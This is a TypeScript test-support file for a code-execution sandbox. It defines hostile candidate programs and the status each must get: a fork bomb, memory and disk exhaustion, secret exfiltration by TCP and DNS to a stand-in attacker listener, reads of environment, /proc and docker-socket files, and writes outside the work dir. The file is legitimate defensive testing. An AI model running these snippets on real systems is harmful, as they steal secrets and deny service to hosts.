// Hostile candidates, each with the status it must get: shared by the hostile suite (the engine's
// default runtime) and the runtimes suite (gVisor, podman), so every runtime meets the same cases.
// Each case names the limit that decides it; the hostile suite's notes say what is seen without it.
import { execFileSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { performance } from "node:perf_hooks";
import { afterAll, beforeAll, expect, it, vi } from "vitest";
import type { Result, Status } from "../../src/core/model.js";
import type { Language } from "../../src/languages/registry.js";
import { judgeCandidate, runContext } from "../../src/run/pipeline.js";
import { CliEngine } from "../../src/sandbox/engines/cli/cli-engine.js";
import { type ContainerEngine } from "../../src/sandbox/engine.js";
import { RUN_LABEL } from "../../src/sandbox/job.js";
import { readSettings, type InputName } from "../../src/settings/settings.js";
import { TEST_IMAGE, docker } from "./support.js";

export type Inputs = Partial<Record<InputName, string>>;

/**
 * Small limits keep the suite fast on two cores; cases raise one where they need it. The timeout is the
 * exception: a case that expects another status must never race it on a loaded runner (a disk fill under
 * gVisor beside two CPU hogs took over 2 s), so it is roomy, and the cases that expect `timeout` set a
 * short one of their own, for a command that would run far longer.
 */
export const HOSTILE_INPUTS: Inputs = {
  image: TEST_IMAGE,
  pull: "never",
  timeout: "15s",
  memory: "64m",
  cpus: "1",
  "pids-limit": "64",
  "max-output": "64k",
  "tmpfs-size": "8m",
};

export interface Judged {
  result: Result;
  /** Wall-clock time of the whole judgement, start-up included. */
  elapsedMs: number;
}

/** A whole reply through the pipeline on `engine`, with the suite's small limits under `inputs`. */
export async function judgeWith(
  engine: ContainerEngine,
  runId: string,
  text: string,
  inputs: Inputs = {},
): Promise<Judged> {
  const all: Inputs = { ...HOSTILE_INPUTS, ...inputs };
  const settings = readSettings((name) => all[name] ?? "", { defaultWorkdir: process.cwd() });
  const candidate = { id: "hostile", source: "hostile", kind: "reply" as const, text };
  const started = performance.now();
  const result = await judgeCandidate(
    candidate,
    runContext({ settings, engine, testFiles: [], runId, prepareImage: async () => undefined }, () => {}),
  );
  return { result, elapsedMs: performance.now() - started };
}

/** One engine (binary and runtime) and the run id its containers are labelled with. */
export class Sandbox {
  readonly engine: CliEngine;
  readonly runId = `hostile-${randomBytes(4).toString("hex")}`;

  constructor(readonly options: { binary?: string; runtime?: string; image?: string } = {}) {
    this.engine = new CliEngine(options.binary ? { binary: options.binary } : {});
  }

  judge(language: Language, code: string, inputs: Inputs = {}): Promise<Judged> {
    return this.judgeReply(fence(language, code), { language, ...inputs });
  }

  /** A whole reply through the pipeline: extraction, parse check, the run, the verdict. */
  async judgeReply(text: string, inputs: Inputs = {}): Promise<Judged> {
    const options = {
      ...(this.options.image ? { image: this.options.image } : {}),
      ...(this.options.runtime ? { runtime: this.options.runtime } : {}),
      ...inputs,
    };
    return judgeWith(this.engine, this.runId, text, options);
  }

  /** The runner survived the case: its removals all worked and no container of the run is left. */
  async expectClean(): Promise<void> {
    expect(await this.engine.close()).toEqual([]);
    const left = execFileSync(
      this.engine.binary,
      ["ps", "-a", "--filter", `label=${RUN_LABEL}=${this.runId}`, "--format", "{{.Names}}"],
      {
        encoding: "utf8",
      },
    );
    expect(left.trim()).toBe("");
  }
}

export function fence(language: Language, code: string): string {
  return `Here is my solution:\n\n\`\`\`${language}\n${code}\n\`\`\`\n`;
}

/** What a case may look at beyond the result. */
export interface CaseContext {
  /** Where the exfiltration listener answers (a container of our own on the engine's bridge). */
  listenerIp: string;
  /** Planted in the runner's environment and in a host file; must never show up in a sandbox. */
  secret: string;
  /** A host file holding the secret. */
  hostFile: string;
}

// An attacker's server: logs whatever reaches it over TCP 8080 or UDP 53.
const LISTENER = String.raw`
import socket, threading
def tcp():
    s = socket.socket(); s.bind(('0.0.0.0', 8080)); s.listen()
    while True:
        c, _ = s.accept(); print('tcp', c.recv(4096), flush=True); c.close()
def udp():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', 53))
    while True:
        print('udp', u.recvfrom(4096)[0], flush=True)
threading.Thread(target=udp, daemon=True).start()
print('listening', flush=True)
tcp()
`;

/**
 * The world a hostile candidate would like to reach: a listener of ours on the engine's default bridge,
 * and a secret in the runner's environment and in a host file.
 */
export class HostileWorld implements CaseContext {
  readonly secret = `sg-secret-${randomBytes(8).toString("hex")}`;
  /** A temp dir of the runner's, removed by close(). */
  readonly dir = mkdtempSync(join(tmpdir(), "sg-hostile-host-"));
  readonly hostFile = join(this.dir, "secret.txt");
  listenerIp = "";
  readonly #listener = `sandbox-gate-listener-${randomBytes(4).toString("hex")}`;

  static async start(): Promise<HostileWorld> {
    const world = new HostileWorld();
    writeFileSync(world.hostFile, world.secret);
    process.env.SANDBOX_GATE_HOSTILE_SECRET = world.secret;
    docker("run", "-d", "--name", world.#listener, TEST_IMAGE, "python3", "-c", LISTENER);
    world.listenerIp = docker("inspect", "--format", "{{.NetworkSettings.IPAddress}}", world.#listener).trim();
    await vi.waitFor(() => expect(docker("logs", world.#listener)).toContain("listening"), { timeout: 10_000 });
    return world;
  }

  /** What reached the listener: nothing, unless the network leaked. */
  received(): string {
    return docker("logs", this.#listener).replace("listening\n", "");
  }

  close(): void {
    docker("rm", "-f", this.#listener);
    rmSync(this.dir, { recursive: true, force: true });
    delete process.env.SANDBOX_GATE_HOSTILE_SECRET;
  }
}

export interface HostileCase {
  name: string;
  language: Language;
  code: string | ((ctx: CaseContext) => string);
  status: Status;
  inputs?: Inputs;
  check?: (judged: Judged, ctx: CaseContext) => void;
}

const MiB = 1024 * 1024;

/**
 * The test's own guard against a hang, for one case: past the longest wall-clock backstop of any case (the
 * 8-thread spin's 180 s; the default limit's is 75 s; the balloon's 60 s ends at its memory limit long
 * before) with a minute for a loaded runner's container start, so a run a busy machine stretched but the
 * gate ended right is never failed by the test; the cases' own assertions say how it ended.
 */
export const CASE_TEST_TIMEOUT_MS = 240_000;

/** The limits a runtime must keep, as candidates see them. */
export const LIMIT_CASES: HostileCase[] = [
  {
    name: "an endless loop",
    language: "bash",
    code: "echo started\nwhile :; do :; done",
    status: "timeout",
    inputs: { timeout: "2s" },
    check: ({ result }) => {
      expect(result.stdout).toBe("started\n");
      expect(result.duration_ms).toBeGreaterThanOrEqual(2_000);
      // Killed at its limit on the time it had: about 2 s of the CPU, however long a busy machine made
      // that take by the wall clock (docs/judging.md, Time); never running on to the backstop.
      expect(result.cpu_ms ?? result.duration_ms).toBeLessThan(5_000);
    },
  },
  {
    // 8 threads spinning, measured from inside: CPU time over wall time is the share it got.
    name: "a CPU spin in 8 threads",
    language: "javascript",
    code: [
      "const { Worker } = require('node:worker_threads');",
      "for (let i = 0; i < 8; i++) new Worker('for (;;) {}', { eval: true });",
      "setTimeout(() => {",
      "  const cpu0 = process.cpuUsage(), wall0 = process.hrtime.bigint();",
      "  setTimeout(() => {",
      "    const cpu = process.cpuUsage(cpu0), wall = Number(process.hrtime.bigint() - wall0) / 1000;",
      "    console.log('share', ((cpu.user + cpu.system) / wall).toFixed(2));",
      "  }, 1000);",
      "}, 500);",
    ].join("\n"),
    status: "timeout",
    // Each worker is a V8 isolate of ~10 MB.
    // 10 s: after the workers start, the main thread that prints gets a ninth of the quarter core; at load
    // 20 (two CI suites and two hogs beside it) 4 s did not leave it time to print at all.
    // The backstop roomy too: at load 20 a shared container's spin was made to wait 64 s of 70 for a CPU, so
    // the default backstop (70 s) ended it as the machine's fault (sandbox_error, retried) before its 10 s.
    inputs: { cpus: "0.25", timeout: "10s", "wall-timeout": "180s", memory: "256m" },
    check: ({ result }) => {
      const share = Number(/^share (\d+\.\d+)$/.exec(result.stdout.trim())?.[1]);
      // A quarter of a core, so even a runner busy with other work would give it more without the limit
      // (8 spinning threads among a loaded 2-core machine's runnable tasks get well over 0.4). Below, the
      // share only has to show the workers ran: a machine at load 14 gave them 0.08 of a core, limit or not.
      expect(share, result.stdout + result.stderr).toBeGreaterThan(0.02);
      expect(share).toBeLessThan(0.4);
    },
  },
  {
    // Bounded at 1 GiB, filled so every page is really used.
    name: "a memory bomb",
    language: "javascript",
    code: "const kept = [];\nfor (let i = 0; i < 1024; i++) kept.push(Buffer.alloc(1 << 20, 1));\nconsole.log('survived', kept.length);",
    status: "oom",
    // The memory limit decides, not the clock: under gVisor on a busy machine, filling 256 MiB can take
    // seconds (every first touch of a page is a trip into gVisor's kernel).
    inputs: { timeout: "15s" },
    check: ({ result }) => expect(result.stdout).not.toContain("survived"),
  },
  {
    // Memory never touched but for each object's first page: calloc's fresh mappings are zero already, so
    // the limit is met through those pages and their page tables, ~8 KiB a 16 MiB object, and filling the
    // suite's 64 MiB takes thousands of mappings. Measured: 0.6-0.8 s of CPU under runc and the namespace
    // engine alike, 2.8 s under gVisor, and on a machine four hogs keep busy a second of CPU does a third
    // of the work: were the clock to race the limit, the verdict would be whichever came first (issue 29).
    name: "a balloon of memory it never touches",
    language: "python",
    code: "kept = []\nwhile True:\n    kept.append(bytes(16 << 20))",
    status: "oom",
    inputs: { timeout: "60s" },
  },
  {
    // Grown by appending: every page is written as it comes.
    name: "a bytearray that grows",
    language: "python",
    code: "b = bytearray()\nwhile True:\n    b += bytes(1 << 20)\nprint('survived')",
    status: "oom",
    check: ({ result }) => expect(result.stdout).not.toContain("survived"),
  },
  {
    // Mapped, never used: the limit is on memory, not address space, so 4 GiB of mappings under 64 MiB pass.
    name: "4 GiB of anonymous mappings it never touches",
    language: "python",
    code: "import mmap\nmaps = [mmap.mmap(-1, 256 << 20) for _ in range(16)]\nprint('survived', len(maps))",
    status: "pass",
    check: ({ result }) => expect(result.stdout).toBe("survived 16\n"),
  },
  {
    // The top loop keeps forking; the pids limit turns forks into EAGAIN, which bash reports and retries.
    name: "a fork bomb",
    language: "bash",
    code: "bomb() { bomb | bomb & }\nwhile :; do bomb; done",
    status: "timeout",
    inputs: { "pids-limit": "32", timeout: "2s" },
    check: ({ result }) => {
      expect(result.stderr).toMatch(/fork: retry: Resource temporarily unavailable/);
      expect(result.stderr).not.toMatch(/Cannot allocate memory/);
    },
  },
  {
    name: "fd exhaustion",
    language: "python",
    code: [
      "import sys",
      "fds = []",
      "try:",
      "    while len(fds) < 10_000:",
      "        fds.append(open('/dev/null'))",
      "except OSError as e:",
      "    sys.exit(f'open failed after {len(fds)}: errno {e.errno}')",
      "print('opened', len(fds))",
    ].join("\n"),
    status: "test_failed",
    check: ({ result }) => {
      const [, opened, errno] = /open failed after (\d+): errno (\d+)/.exec(result.stderr) ?? [];
      expect(Number(errno), result.stderr).toBe(24);
      expect(Number(opened)).toBeLessThan(256);
    },
  },
  // Many 1 MiB files, so the tmpfs size decides and not the per-file size limit.
  ...["/work", "/tmp"].map((dir): HostileCase => ({
    name: `a disk fill of ${dir}`,
    language: "bash",
    code: `for i in $(seq 64); do head -c 1048576 /dev/zero > ${dir}/fill$i || break; done\necho "$(cat ${dir}/fill* | wc -c) bytes"\nexit 1`,
    status: "test_failed",
    check: ({ result }) => {
      expect(result.stderr).toMatch(/No space left on device/);
      const written = Number(/^(\d+) bytes$/.exec(result.stdout.trim())?.[1]);
      expect(written).toBeGreaterThan(4 * MiB);
      expect(written).toBeLessThanOrEqual(8 * MiB);
    },
  })),
  ...[
    ["by IP (TCP)", "s = socket.create_connection((IP, 8080), timeout=1)\ns.sendall(SECRET.encode())"],
    // A DNS query carrying the secret in its name, sent straight to the attacker's resolver.
    [
      "by DNS (UDP to a resolver)",
      "name = b''.join(bytes([len(p)]) + p for p in (SECRET.encode(), b'exfil', b'example')) + b'\\0'\n" +
        "query = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + name + b'\\x00\\x01\\x00\\x01'\n" +
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (IP, 53))",
    ],
  ].map(([how, send]): HostileCase => ({
    name: `network exfiltration ${how}`,
    language: "python",
    code: ({ listenerIp, secret }) =>
      `import socket\nIP = ${JSON.stringify(listenerIp)}\nSECRET = ${JSON.stringify(secret)}\n${send}\nprint('sent')`,
    status: "test_failed",
    check: ({ result }) => {
      // gVisor's netstack says EHOSTUNREACH where Linux says ENETUNREACH.
      expect(result.stderr).toMatch(/OSError: \[Errno (101|113)\] (Network is unreachable|No route to host)/);
      expect(result.stdout).toBe("");
    },
  })),
  ...(
    [
      ["the runner's environment", "env; tr '\\0' '\\n' < /proc/self/environ", (s) => `env | grep -F ${s}`],
      ["/proc/1/environ", "tr '\\0' '\\n' < /proc/1/environ", (s) => `grep -F ${s} /proc/1/environ`],
      [
        "the docker socket",
        "ls -l /var/run/docker.sock /run/docker.sock",
        () => "test -S /var/run/docker.sock || test -S /run/docker.sock",
      ],
    ] satisfies [string, string, (secret: string) => string][]
  ).map(([what, show, find]): HostileCase => ({
    // Prints what it can see, then exits 0 only if it found the secret.
    name: `reading ${what}`,
    language: "bash",
    code: ({ secret }) => `${show}\n${find(secret)}`,
    status: "test_failed",
    check: ({ result }, { secret }) => expect(result.stdout + result.stderr).not.toContain(secret),
  })),
  {
    name: "reading a host path",
    language: "bash",
    code: ({ hostFile }) => `cat ${hostFile}`,
    status: "test_failed",
    check: ({ result }, { secret }) => {
      expect(result.stderr).toMatch(/No such file or directory/);
      expect(result.stdout).not.toContain(secret);
    },
  },
  {
    // As nobody, / and /etc refuse with EACCES even when writable (gVisor says EACCES before EROFS);
    // /var/tmp is world-writable, so only a read-only root keeps it out.
    name: "writing outside the work dir",
    language: "bash",
    code: 'for dir in / /etc /usr/local/bin /var/tmp /home; do echo x > "$dir/sandbox-gate-hacked" && echo "wrote $dir"; done\nexit 1',
    status: "test_failed",
    check: ({ result }) => {
      expect(result.stdout).toBe("");
      expect(result.stderr.match(/Read-only file system|Permission denied/g)).toHaveLength(5);
    },
  },
];

/**
 * The name the daemonizing case's sleeper runs under, which the host's process table shows: its own for each
 * test file (a module each), so a check for it finds this file's, not another file's or another run's.
 */
export const DAEMON_NAME = `sandbox-gate-daemon-${randomBytes(4).toString("hex")}`;

/** Cases about how the runner ends and judges a run, whatever the runtime. */
export const ENDING_CASES: HostileCase[] = [
  {
    // The run ends with the test command; the daemon dies with the container's PID namespace.
    name: "a child that daemonizes (setsid) and outlives the test command",
    language: "bash",
    code: `setsid bash -c 'exec -a ${DAEMON_NAME} sleep 60' </dev/null >/dev/null 2>&1 &\nsetsid bash -c 'sleep 1; echo daemon still here' &\necho started`,
    status: "pass",
    // Were the daemon to hold the run, it would be a timeout: the limit is the suite's roomy one.
    check: ({ result, elapsedMs }) => {
      expect(result.stdout).toBe("started\n");
      // Well under the 15 s limit, so neither daemon held the run; with room for a loaded machine, where a
      // whole judgement (container and all) took 3.3 s beside another run and two CI suites.
      expect(elapsedMs).toBeLessThan(10_000);
    },
  },
  {
    // docker-init forwards SIGTERM to the command; Linux refuses SIGKILL to a namespace's init from
    // inside, gVisor does not (then SIGKILL ends it). Without an init that dies, PID 1 ignores both.
    name: "killing its own PID 1",
    language: "bash",
    code: "kill -KILL 1\nkill -TERM 1\nsleep 2\necho survived",
    status: "test_failed",
    check: ({ result }) => {
      expect(["SIGTERM", "SIGKILL"]).toContain(result.signal);
      expect(result.stdout).toBe("");
    },
  },
  {
    name: "sleeping after closing stdout and stderr",
    language: "bash",
    code: "echo bye\nexec >&- 2>&-\nsleep 30",
    status: "timeout",
    inputs: { timeout: "2s" },
    check: ({ result }) => {
      expect(result.stdout).toBe("bye\n");
      expect(result.duration_ms).toBeLessThan(5_000);
    },
  },
  {
    name: 'a test that prints "PASS" but exits 1',
    language: "python",
    code: "print('PASS')\nprint('OK (3 tests)')\nraise SystemExit(1)",
    status: "test_failed",
    check: ({ result }) => expect(result.exit_code).toBe(1),
  },
];

export function codeOf(c: HostileCase, ctx: CaseContext): string {
  return typeof c.code === "function" ? c.code(ctx) : c.code;
}

/**
 * The hostile cases through one engine, inside the caller's describe: each judged alone, its status and
 * checks held, then `afterEach` (what must be gone after it), and nothing reached the world's listeners.
 */
export function judgesHostileCases(
  engine: ContainerEngine,
  runId: string,
  options: { cases?: HostileCase[]; afterEach?: () => Promise<void> } = {},
): void {
  let world: HostileWorld;
  beforeAll(async () => {
    world = await HostileWorld.start();
  });
  afterAll(() => world.close());

  it.each(options.cases ?? [...LIMIT_CASES, ...ENDING_CASES])(
    "$name: $status",
    { timeout: CASE_TEST_TIMEOUT_MS },
    async (c) => {
      const judged = await judgeWith(engine, runId, fence(c.language, codeOf(c, world)), {
        language: c.language,
        ...c.inputs,
      });
      expect(judged.result.status, judged.result.feedback).toBe(c.status);
      c.check?.(judged, world);
      await options.afterEach?.();
      expect(world.received()).toBe("");
    },
  );
}
